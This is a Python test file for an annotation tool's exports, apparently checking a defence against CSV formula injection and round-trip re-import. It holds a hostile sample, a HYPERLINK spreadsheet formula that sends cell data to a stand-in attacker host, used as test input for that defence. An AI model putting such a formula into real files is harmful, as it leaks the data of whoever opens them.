"""CSV exports are safe to open in a spreadsheet (issue 21 minor, issue 17 §6): a text cell that would start a
formula (=, +, -, @, tab, CR) gets a leading apostrophe (OWASP "CSV Injection"); JSON keeps every value as is;
and a CSV export still re-imports to the same votes."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from sbs_tui.core.io.csv_cells import FORMULA_START, csv_text, csv_text_back
from sbs_tui.core.records import VoteRecord
from sbs_tui.core.store import Store

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@given(st.text())
def test_the_neutralising_is_reversible_and_leaves_no_formula(text: str) -> None:
    safe = csv_text(text)
    assert csv_text_back(safe) == text
    assert safe[:1] not in FORMULA_START


def test_numbers_are_not_text() -> None:
    assert csv_text(-1.5) == -1.5 and csv_text("plain") == "plain" and csv_text("-1") == "'-1"


def _db(tmp_path):
    db = tmp_path / "v.db"
    with Store(db) as store, store.transaction():
        store.votes.insert([VoteRecord(prompt_id=f"p{k}", prompt=f"+prompt {k}", model_a="@evil-model",
                                       model_b="good", winner=("model_a", "model_b")[k % 2], annotator="-ann",
                                       rationale=HOSTILE if k == 0 else "\tfine") for k in range(6)])
    return db


def test_export_votes_csv_is_neutralised_and_reimports_identically(cli, tmp_path) -> None:
    db = _db(tmp_path)
    out = tmp_path / "votes.csv"
    assert cli("--db", str(db), "export", "votes", "--out", str(out)).exit_code == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows[0]["rationale"] == "'" + HOSTILE and rows[0]["model_a"] == "'@evil-model"
    assert rows[0]["annotator"] == "'-ann" and rows[0]["prompt"] == "'+prompt 0"
    for row in rows:
        assert all(not v or v[:1] not in FORMULA_START for v in row.values()), row
    # JSON keeps the data as it is
    as_json = [json.loads(line) for line in cli("--db", str(db), "export", "votes").stdout.splitlines()]
    assert as_json[0]["rationale"] == HOSTILE and as_json[0]["model_a"] == "@evil-model"
    # and the CSV re-imports to the same votes
    again = tmp_path / "again.db"
    assert cli("--db", str(again), "import", "votes", str(out)).exit_code == 0
    keys = ("vote_id", "prompt", "model_a", "model_b", "winner", "annotator", "rationale")
    with Store(db) as a, Store(again) as b:
        assert [[v[k] for k in keys] for v in a.exports.votes()] == [[v[k] for k in keys] for v in b.exports.votes()]


def test_ranking_csv_is_neutralised(cli, tmp_path) -> None:
    db = _db(tmp_path)
    for args in (["rank", "--format", "csv", "--bootstrap", "10"], ["export", "rankings", "--bootstrap", "10",
                                                                    "--out", str(tmp_path / "r.csv")]):
        result = cli("--db", str(db), *args)
        assert result.exit_code == 0, result.stderr
        text = result.stdout if args[0] == "rank" else (tmp_path / "r.csv").read_text(encoding="utf-8")
        models = [r["model"] for r in csv.DictReader(io.StringIO(text))]
        assert "'@evil-model" in models and "@evil-model" not in models


def test_out_dash_is_stdout_for_every_command(cli, tmp_path) -> None:
    """``--out -`` used to write a file named ``-``."""
    db = _db(tmp_path)
    import os

    os.chdir(tmp_path)
    votes = cli("--db", str(db), "export", "votes", "--out", "-")
    assert votes.exit_code == 0 and len(votes.stdout.splitlines()) == 6
    ranking = cli("--db", str(db), "export", "rankings", "--bootstrap", "10", "--out", "-")
    assert ranking.exit_code == 0 and json.loads(ranking.stdout)["models"]
    dpo = cli("--db", str(db), "export", "dpo", "--out", "-")
    assert dpo.exit_code == 0
    report = cli("--db", str(db), "report", "--out", "-", "--bootstrap", "10")
    assert report.exit_code == 0 and report.stdout.startswith("#"), report.stderr
    assert not (tmp_path / "-").exists()
